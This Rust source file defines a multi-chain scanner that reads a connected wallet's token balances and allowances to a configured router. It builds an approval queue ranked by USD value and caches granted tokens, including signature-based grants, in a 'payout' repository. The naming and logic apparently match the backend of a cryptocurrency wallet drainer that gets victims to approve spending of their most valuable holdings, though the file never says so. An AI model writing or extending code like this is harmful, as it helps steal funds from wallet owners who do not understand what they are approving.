use alloy_primitives::{Address, U256};
use futures::future::join_all;
use std::cmp::Ordering;
use std::collections::HashSet;
use std::sync::Arc;
use tracing::{debug, info, warn};

use crate::models::{ChainScanStats, EligibleToken, ScanOutcome, TokenStatus};
use crate::pricing::PriceOracle;
use crate::registry::{ChainConfig, ChainRegistry};
use crate::session::{Session, SessionCounter};
use crate::store::{KvStore, PayoutRepository};
use crate::utils::normalized_amount;
use crate::wallet::WalletGateway;

/// Result of scanning one chain. Chains are independent; a failed chain
/// never fails the scan.
struct ChainScan {
    stats: ChainScanStats,
    eligible: Vec<EligibleToken>,
    already_approved: Vec<EligibleToken>,
}

impl ChainScan {
    fn failed(cfg: &ChainConfig, reason: impl Into<String>) -> Self {
        Self {
            stats: ChainScanStats::failed(cfg.chain_id, &cfg.name, reason),
            eligible: Vec::new(),
            already_approved: Vec::new(),
        }
    }
}

/// Scans a connected wallet's balances and router allowances across every
/// configured chain and produces the approval queue.
pub struct AllowanceScanner<G, P, K>
where
    G: WalletGateway,
    P: PriceOracle,
    K: KvStore,
{
    gateway: Arc<G>,
    oracle: Arc<P>,
    repo: PayoutRepository<K>,
    registry: Arc<ChainRegistry>,
    sessions: Arc<SessionCounter>,
}

impl<G, P, K> AllowanceScanner<G, P, K>
where
    G: WalletGateway,
    P: PriceOracle,
    K: KvStore,
{
    pub fn new(
        gateway: Arc<G>,
        oracle: Arc<P>,
        repo: PayoutRepository<K>,
        registry: Arc<ChainRegistry>,
        sessions: Arc<SessionCounter>,
    ) -> Self {
        Self {
            gateway,
            oracle,
            repo,
            registry,
            sessions,
        }
    }

    /// Runs a full scan. Chains are read concurrently and re-assembled in
    /// registry order; the result is never an error — an unrecoverable
    /// scan-wide condition yields an empty outcome with a user-facing
    /// message.
    pub async fn scan(&self, session: Session) -> ScanOutcome {
        let Some(wallet) = self.gateway.wallet() else {
            return ScanOutcome::empty_with_message("Connect a wallet to scan balances");
        };
        if self.registry.is_empty() {
            return ScanOutcome::empty_with_message("No chains configured");
        }

        let scans = join_all(
            self.registry
                .chains
                .iter()
                .map(|cfg| self.scan_chain(wallet, cfg)),
        )
        .await;

        if !self.sessions.is_current(session) {
            debug!("session invalidated during scan, discarding results");
            return ScanOutcome::default();
        }

        let mut chains = Vec::with_capacity(scans.len());
        let mut eligible = Vec::new();
        let mut already_approved = Vec::new();
        for scan in scans {
            chains.push(scan.stats);
            eligible.extend(scan.eligible);
            already_approved.extend(scan.already_approved);
        }

        self.sync_approved_cache(wallet, &mut eligible);

        eligible.sort_by(|a, b| {
            let ka = a
                .usd_value
                .unwrap_or_else(|| normalized_amount(a.balance, a.decimals));
            let kb = b
                .usd_value
                .unwrap_or_else(|| normalized_amount(b.balance, b.decimals));
            kb.partial_cmp(&ka).unwrap_or(Ordering::Equal)
        });

        info!(
            wallet = %wallet,
            chains = chains.len(),
            eligible = eligible.len(),
            already_approved = already_approved.len(),
            "scan complete"
        );

        ScanOutcome {
            chains,
            eligible,
            already_approved,
            message: None,
        }
    }

    async fn scan_chain(&self, wallet: Address, cfg: &ChainConfig) -> ChainScan {
        if cfg.tokens.is_empty() {
            return ChainScan::failed(cfg, "no tokens configured");
        }
        let Some(router) = cfg.router else {
            return ChainScan::failed(cfg, "no router configured");
        };
        let addrs: Vec<Address> = cfg.tokens.iter().map(|t| t.address).collect();

        let (balances, balances_all_failed) =
            self.balances_with_fallback(cfg.chain_id, wallet, &addrs).await;
        if balances_all_failed {
            return ChainScan::failed(cfg, "balance reads failed");
        }
        let allowances = self
            .allowances_with_fallback(cfg.chain_id, wallet, router, &addrs)
            .await;

        let mut eligible = Vec::new();
        let mut already_approved = Vec::new();
        for (i, token) in cfg.tokens.iter().enumerate() {
            let balance = balances[i];
            if balance == U256::ZERO {
                continue;
            }
            let row = EligibleToken {
                chain_id: cfg.chain_id,
                chain_name: cfg.name.clone(),
                address: token.address,
                symbol: token.symbol.clone(),
                decimals: token.decimals,
                balance,
                allowance: allowances[i],
                usd_price: None,
                usd_value: None,
                status: TokenStatus::Pending,
            };
            if row.is_eligible() {
                eligible.push(row);
            } else {
                already_approved.push(row);
            }
        }

        self.enrich_with_prices(cfg.chain_id, &mut eligible).await;

        ChainScan {
            stats: ChainScanStats {
                chain_id: cfg.chain_id,
                chain_name: cfg.name.clone(),
                ok: true,
                scanned: cfg.tokens.len(),
                eligible: eligible.len(),
                already_approved: already_approved.len(),
                error: None,
            },
            eligible,
            already_approved,
        }
    }

    /// Batched balance read; a batch that fails outright or returns zero
    /// per-item successes falls back to one read per token, and individual
    /// failures default to a zero balance. Returns whether every read
    /// failed.
    async fn balances_with_fallback(
        &self,
        chain_id: u64,
        wallet: Address,
        addrs: &[Address],
    ) -> (Vec<U256>, bool) {
        match self.gateway.read_balances(chain_id, wallet, addrs).await {
            Ok(items) if items.iter().any(|r| r.is_ok()) => (
                items
                    .into_iter()
                    .map(|r| r.unwrap_or(U256::ZERO))
                    .collect(),
                false,
            ),
            outcome => {
                if let Err(e) = &outcome {
                    debug!(chain_id, error = %e, "batched balance read failed, retrying per token");
                } else {
                    debug!(chain_id, "batched balance read had no successes, retrying per token");
                }
                let mut values = Vec::with_capacity(addrs.len());
                let mut failures = 0usize;
                for addr in addrs {
                    match self.gateway.read_balance(chain_id, *addr, wallet).await {
                        Ok(v) => values.push(v),
                        Err(e) => {
                            debug!(chain_id, token = %addr, error = %e, "balance read failed, defaulting to zero");
                            failures += 1;
                            values.push(U256::ZERO);
                        }
                    }
                }
                (values, failures == addrs.len())
            }
        }
    }

    /// Same batched-then-per-item strategy for allowances. A failed
    /// allowance read defaults to zero, which keeps the token on the
    /// approval path rather than silently skipping it.
    async fn allowances_with_fallback(
        &self,
        chain_id: u64,
        wallet: Address,
        router: Address,
        addrs: &[Address],
    ) -> Vec<U256> {
        match self
            .gateway
            .read_allowances(chain_id, wallet, router, addrs)
            .await
        {
            Ok(items) if items.iter().any(|r| r.is_ok()) => items
                .into_iter()
                .map(|r| r.unwrap_or(U256::ZERO))
                .collect(),
            outcome => {
                if let Err(e) = &outcome {
                    debug!(chain_id, error = %e, "batched allowance read failed, retrying per token");
                } else {
                    debug!(chain_id, "batched allowance read had no successes, retrying per token");
                }
                let mut values = Vec::with_capacity(addrs.len());
                for addr in addrs {
                    let value = self
                        .gateway
                        .read_allowance(chain_id, *addr, wallet, router)
                        .await
                        .unwrap_or(U256::ZERO);
                    values.push(value);
                }
                values
            }
        }
    }

    /// Best-effort USD enrichment. A pricing failure leaves the USD fields
    /// absent and never removes a token from the eligible set.
    async fn enrich_with_prices(&self, chain_id: u64, eligible: &mut [EligibleToken]) {
        if eligible.is_empty() {
            return;
        }
        let addrs: Vec<Address> = eligible.iter().map(|t| t.address).collect();
        let prices = match self.oracle.usd_prices(chain_id, &addrs).await {
            Ok(map) => map,
            Err(e) => {
                warn!(chain_id, error = %e, "price fetch failed, continuing without USD values");
                return;
            }
        };
        for token in eligible.iter_mut() {
            if let Some(price) = prices.get(&token.address) {
                token.usd_price = Some(*price);
                token.usd_value = Some(normalized_amount(token.balance, token.decimals) * price);
            }
        }
    }

    /// Drops tokens the wallet already granted (including signature-path
    /// grants that never touch the on-chain allowance) from the active
    /// list, and prunes cache entries whose on-chain allowance has caught
    /// up, whose balance has drained, or whose token is no longer
    /// configured, so the cache never grows unbounded or goes stale.
    fn sync_approved_cache(&self, wallet: Address, eligible: &mut Vec<EligibleToken>) {
        let mut cache = match self.repo.approved_set(wallet) {
            Ok(set) => set,
            Err(e) => {
                warn!(error = %e, "failed to load approved-token cache");
                return;
            }
        };
        if cache.is_empty() {
            return;
        }

        let current: HashSet<String> = eligible.iter().map(|t| t.key().storage_key()).collect();
        let before = cache.len();
        cache.retain(|key| current.contains(key));
        if cache.len() != before {
            if let Err(e) = self.repo.set_approved_set(wallet, &cache) {
                warn!(error = %e, "failed to prune approved-token cache");
            }
        }

        eligible.retain(|t| !cache.contains(&t.key().storage_key()));
    }
}
